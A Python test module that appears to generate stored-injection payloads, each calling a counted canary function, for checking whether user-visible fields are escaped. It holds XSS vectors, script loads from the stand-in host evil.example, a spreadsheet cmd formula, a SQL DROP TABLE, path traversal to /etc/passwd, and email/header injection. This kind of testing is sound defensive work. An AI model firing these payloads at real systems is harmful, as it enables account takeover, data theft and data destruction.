"""What is written into every field that somebody else reads later: each would do something if it were taken for more than text.

Where a payload runs, it calls `__pwned` with its number; a page that is watched counts the calls. All are short enough for a
person's name.
"""

RUN = "__pwned({n})"

_TEMPLATES = (
    # elements that run by themselves
    "<script>{run}</script>",
    "<ScRiPt/x>{run}</sCrIpT>",
    "<<script>{run}//<</script>",
    "<script src=//evil.example/{n}.js></script>",
    "<img src=x onerror={run}>",
    '<img src="x" onerror="{run}">',
    "<img/src='x'/onerror='{run}'>",
    "<image src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<body onload={run}>",
    "<video><source onerror={run}>",
    "<audio src=x onerror={run}>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<style onload={run}></style>",
    "<link rel=stylesheet href=//evil.example/{n} onerror={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<base href=//evil.example/{n}/>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<template shadowrootmode=open><img src=x onerror={run}></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<a href=javascript:{run}>click</a>",
    # out of the place where it stands
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    "</title><img src=x onerror={run}>",
    "</textarea><img src=x onerror={run}>",
    "</script><script>{run}</script>",
    "</style><script>{run}</script>",
    "--><img src=x onerror={run}><!--",
    "]]><img src=x onerror={run}>",
    '" onmouseover="{run}" x="',
    "' autofocus onfocus={run} x='",
    # out of a string of JavaScript: a toast's text is part of a script that the server sends
    "'-{run}-'",
    '"-{run}-"',
    "\\'-{run}//",
    '\\"-{run}//',
    "`-${{{run}}}-`",
    "${{{run}}}",
    "\\u0027-{run}//",
    "\u2028{run}\u2028//",
    "a\u2029{run}\u2029//",
    # templates
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{{{7*7}}}}<%= 7*7 %>#{{7*7}} {n}",
    "%(name)s %s {{0}} {{title}} {n}",
    # addresses
    "javascript:{run}",
    "JaVaScRiPt\t:{run}",
    "data:text/html,<script>opener.{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDApPC9zY3JpcHQ+#{n}",
    "vbscript:{run}",
    # markdown
    "[click](javascript:{run})",
    "![x](x){{onerror={run}}}",
    "![x](javascript:{run} \"'onerror='{run}\")",
    "```html\n<script>{run}</script>\n```",
    # other notations of the same signs
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "%3Cscript%3E{run}%3C/script%3E",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    # direction, nothing to see, broken lines
    "\u202egpj.exe {n}\u202c",
    "\u2066<b>{n}\u2069\u200f",
    "a\u200bd\u200dm\ufeffin {n}",
    "Subject: x\r\nBcc: evil@evil.example {n}",
    "x\nSet-Cookie: a={n}",
    # other programs
    '=cmd|"/c calc"!A{n}',
    "@SUM(1+1)*{n}",
    "BEGIN:VCARD\nURL:javascript:{run}\nEND:VCARD",
    "'; DROP TABLE message; -- {n}",
    "../../../etc/passwd {n}",
)

PAYLOADS = [template.format(run=RUN.format(n=n), n=n) for n, template in enumerate(_TEMPLATES, 1)]
